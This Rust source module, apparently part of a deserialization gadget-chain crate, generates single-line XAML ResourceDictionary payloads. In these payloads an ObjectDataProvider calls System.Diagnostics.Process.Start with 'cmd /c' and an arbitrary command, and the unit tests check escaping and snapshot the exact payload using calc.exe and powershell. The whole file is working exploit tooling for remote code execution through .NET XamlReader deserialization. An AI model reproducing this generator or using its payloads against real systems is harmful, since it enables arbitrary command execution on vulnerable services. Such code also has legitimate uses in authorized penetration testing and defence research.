//! XAML resource dictionaries embedded in gadget chains.
//!
//! The documents are written on a single line with no declaration and no
//! whitespace between elements, which is the shape `XamlReader.Parse`
//! receives from the deserialized string member.

use std::io::Write;

use quick_xml::Writer;
use quick_xml::events::{BytesEnd, BytesStart, BytesText, Event};

use crate::error::{GadgetError, Result};

/// WPF presentation namespace (default namespace of the document).
pub const PRESENTATION_NS: &str = "http://schemas.microsoft.com/winfx/2006/xaml/presentation";

/// XAML language namespace, bound to the `X` prefix.
pub const XAML_NS: &str = "http://schemas.microsoft.com/winfx/2006/xaml";

/// `System` in mscorlib, bound to the `S` prefix.
pub const SYSTEM_NS: &str = "clr-namespace:System;assembly=mscorlib";

/// `System.Diagnostics` in System.dll, bound to the `D` prefix.
pub const DIAGNOSTICS_NS: &str = "clr-namespace:System.Diagnostics;assembly=system";

/// Resource dictionary whose `ObjectDataProvider` calls `Process.Start`
/// with `cmd /c <command>`.
///
/// ```
/// let xaml = nrbf_gadget::xaml::cmd_resource_dictionary("calc.exe").unwrap();
/// assert!(xaml.contains("<S:String>/c calc.exe</S:String>"));
/// ```
pub fn cmd_resource_dictionary(command: &str) -> Result<String> {
    process_start_resource_dictionary(&["cmd", &format!("/c {command}")])
}

/// Resource dictionary whose `ObjectDataProvider` calls `Process.Start`
/// with the given string parameters, in order.
///
/// Parameters are written as text nodes, so `& < > " '` are escaped.
///
/// # Errors
///
/// Fails when a parameter holds a character XML 1.0 cannot represent, such as
/// a control character other than tab, line feed or carriage return.
pub fn process_start_resource_dictionary(parameters: &[&str]) -> Result<String> {
    for parameter in parameters {
        check_xml_chars(parameter)?;
    }

    let mut writer = Writer::new(Vec::new());

    let mut root = BytesStart::new("ResourceDictionary");
    root.push_attribute(("xmlns", PRESENTATION_NS));
    root.push_attribute(("xmlns:X", XAML_NS));
    root.push_attribute(("xmlns:S", SYSTEM_NS));
    root.push_attribute(("xmlns:D", DIAGNOSTICS_NS));
    write_event(&mut writer, Event::Start(root))?;

    let mut provider = BytesStart::new("ObjectDataProvider");
    provider.push_attribute(("X:Key", ""));
    provider.push_attribute(("ObjectType", "{X:Type D:Process}"));
    provider.push_attribute(("MethodName", "Start"));
    write_event(&mut writer, Event::Start(provider))?;

    write_event(
        &mut writer,
        Event::Start(BytesStart::new("ObjectDataProvider.MethodParameters")),
    )?;
    for parameter in parameters {
        write_text_element(&mut writer, "S:String", parameter)?;
    }
    write_event(
        &mut writer,
        Event::End(BytesEnd::new("ObjectDataProvider.MethodParameters")),
    )?;

    write_event(&mut writer, Event::End(BytesEnd::new("ObjectDataProvider")))?;
    write_event(&mut writer, Event::End(BytesEnd::new("ResourceDictionary")))?;

    String::from_utf8(writer.into_inner()).map_err(|err| GadgetError::xaml(err.to_string()))
}

/// Write a simple text element (`<name>text</name>`).
fn write_text_element<W: Write>(writer: &mut Writer<W>, name: &str, text: &str) -> Result<()> {
    write_event(writer, Event::Start(BytesStart::new(name)))?;
    write_event(writer, Event::Text(BytesText::new(text)))?;
    write_event(writer, Event::End(BytesEnd::new(name)))?;
    Ok(())
}

/// Reject characters outside the XML 1.0 `Char` production.
fn check_xml_chars(text: &str) -> Result<()> {
    match text.chars().find(|&ch| !is_xml_char(ch)) {
        Some(ch) => Err(GadgetError::xaml(format!(
            "character U+{:04X} cannot appear in a XAML document",
            u32::from(ch)
        ))),
        None => Ok(()),
    }
}

fn is_xml_char(ch: char) -> bool {
    matches!(ch, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
        || ch >= '\u{10000}'
}

fn write_event<W: Write>(writer: &mut Writer<W>, event: Event<'_>) -> Result<()> {
    writer
        .write_event(event)
        .map_err(|err| GadgetError::xaml(err.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use quick_xml::escape::unescape;

    const OPEN: &str = "<S:String>/c ";
    const CLOSE: &str = "</S:String></ObjectDataProvider.MethodParameters>";

    /// Raw (still escaped) text of the command parameter.
    fn command_text(xaml: &str) -> &str {
        let start = xaml.find(OPEN).unwrap() + OPEN.len();
        let end = xaml.find(CLOSE).unwrap();
        &xaml[start..end]
    }

    #[test]
    fn test_document_shape() {
        let xaml = cmd_resource_dictionary("calc.exe").unwrap();
        insta::assert_snapshot!(xaml, @r#"<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:X="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:S="clr-namespace:System;assembly=mscorlib" xmlns:D="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider X:Key="" ObjectType="{X:Type D:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><S:String>cmd</S:String><S:String>/c calc.exe</S:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"#);
    }

    #[test]
    fn test_single_line() {
        let xaml = cmd_resource_dictionary("echo hi").unwrap();
        assert!(!xaml.contains('\n'));
        assert!(!xaml.contains("> <"));
        assert!(!xaml.starts_with("<?xml"));
    }

    #[test]
    fn test_special_characters_escaped() {
        let command = r#"echo "a" & 'b' <c> > out.txt"#;
        let xaml = cmd_resource_dictionary(command).unwrap();
        let text = command_text(&xaml);
        assert_eq!(
            text,
            "echo &quot;a&quot; &amp; &apos;b&apos; &lt;c&gt; &gt; out.txt"
        );
        assert_eq!(unescape(text).unwrap(), command);
    }

    #[test]
    fn test_control_characters_rejected() {
        let err = cmd_resource_dictionary("a\r\nb\t\u{1}").unwrap_err();
        assert!(matches!(err, GadgetError::Xaml { .. }));
        assert!(err.to_string().contains("U+0001"));

        assert!(process_start_resource_dictionary(&["x\u{FFFE}"]).is_err());
    }

    #[test]
    fn test_whitespace_controls_allowed() {
        let xaml = cmd_resource_dictionary("a\r\nb\tc").unwrap();
        assert!(xaml.contains("a\r\nb\tc"));
    }

    #[test]
    fn test_extra_parameters() {
        let xaml = process_start_resource_dictionary(&["powershell", "-c", "1"]).unwrap();
        assert!(xaml.contains(
            "<S:String>powershell</S:String><S:String>-c</S:String><S:String>1</S:String>"
        ));
    }

    proptest! {
        #[test]
        fn prop_command_survives_escaping(command in "[ -~äß€]{0,40}") {
            let xaml = cmd_resource_dictionary(&command).unwrap();
            let text = command_text(&xaml);
            prop_assert!(!text.contains(['<', '>', '"', '\'']));
            prop_assert_eq!(unescape(text).unwrap(), command.as_str());
        }
    }
}
